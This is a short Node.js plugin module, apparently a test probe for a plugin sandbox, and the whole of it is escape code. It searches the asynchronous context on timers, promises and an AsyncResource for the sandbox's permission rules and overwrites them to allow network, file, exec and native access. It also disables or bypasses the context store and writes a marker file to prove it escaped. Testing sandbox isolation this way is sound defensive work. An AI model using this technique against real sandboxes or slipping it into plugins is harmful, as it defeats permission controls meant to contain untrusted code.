// Finds its own rules in the asynchronous context that Node keeps on timers and promises, and leaves it.
exports.createPlugin = async () => {
  const rules = { network: true, fsRead: true, fsWrite: true, exec: true, native: true, packages: [] };
  const entries = (v) => {
    const all = [];
    for (const key of Reflect.ownKeys(v)) { try { all.push(v[key]); } catch {} }
    try { Map.prototype.forEach.call(v, (x, k) => all.push(x, k)); } catch {}
    return all;
  };
  const see = (v, d) => {
    if (v === null || typeof v !== 'object' || d > 3) return;
    try { if ('rules' in v) v.rules = rules; Object.assign(v.rules, rules); } catch {}
    try { v.rules = rules; } catch {}
    if (typeof v.getStore === 'function') {
      for (const f of [() => v.disable(), () => { v.enabled = false; }, () => { v.getStore = () => {}; }]) { try { f(); } catch {} }
      try { v.run(undefined, () => require('fs').writeFileSync('@MARK@', '')); } catch {}
      try { v.enterWith({ rules, root: '' }); } catch {}
    }
    for (const x of entries(v)) see(x, d + 1);
  };
  const { AsyncResource } = require('async_hooks');
  for (const o of [setTimeout(() => {}, 1), setImmediate(() => {}), Promise.resolve(1).then(() => {}), new AsyncResource('x')]) see(o, 0);
  try { require('fs').writeFileSync('@MARK@', ''); } catch (e) { console.log(e.message); }
};
